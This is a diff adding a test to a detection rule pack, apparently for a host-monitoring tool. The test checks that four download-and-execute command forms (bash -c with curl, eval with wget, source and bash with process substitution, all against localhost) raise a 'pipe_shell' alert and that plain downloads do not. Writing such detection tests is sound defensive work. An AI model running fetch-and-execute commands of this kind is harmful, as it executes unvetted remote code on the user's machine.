@@ -403,6 +403,26 @@ describe('the issue-12 rule pack on the real store', () => {
     expect(alertsOf(t.root).filter((a) => a.rule === 'network_scan')).toEqual([]);
   });
 
+  it('a download run without a pipe: sh -c "$(curl …)", eval, source <(…): pipe_shell; a download kept in a variable is not', async () => {
+    const lines = [
+      'bash -c "$(curl -fsSL http://127.0.0.1:9/install.sh)"',
+      'eval "$(wget -qO- http://127.0.0.1:9/env)"',
+      'source <(curl -s http://127.0.0.1:9/x)',
+      'bash <(curl -s http://127.0.0.1:9/x)',
+    ];
+    for (const l of lines) {
+      const s = warmUp(new Script());
+      s.run('/usr/bin/bash', ['bash', '-c', l]);
+      await commit(s.done());
+      expect([l, rulesOf(s.root)]).toEqual([l, ['pipe_shell']]);
+    }
+    const t = warmUp(new Script());
+    t.run('/usr/bin/bash', ['bash', '-c', 'v=$(curl -s http://127.0.0.1:8443/version); echo "$v"']);
+    t.run('/usr/bin/bash', ['bash', '-c', 'curl -s -o out.json http://127.0.0.1:8443/data && python3 -m json.tool out.json']);
+    await commit(t.done());
+    expect(rulesOf(t.root)).toEqual([]);
+  });
+
   it('history wiped, HISTFILE tricks: defence_evasion', async () => {
     const s = warmUp(new Script());
     s.write(`${home}/.bash_history`, s.root, 0o1001);
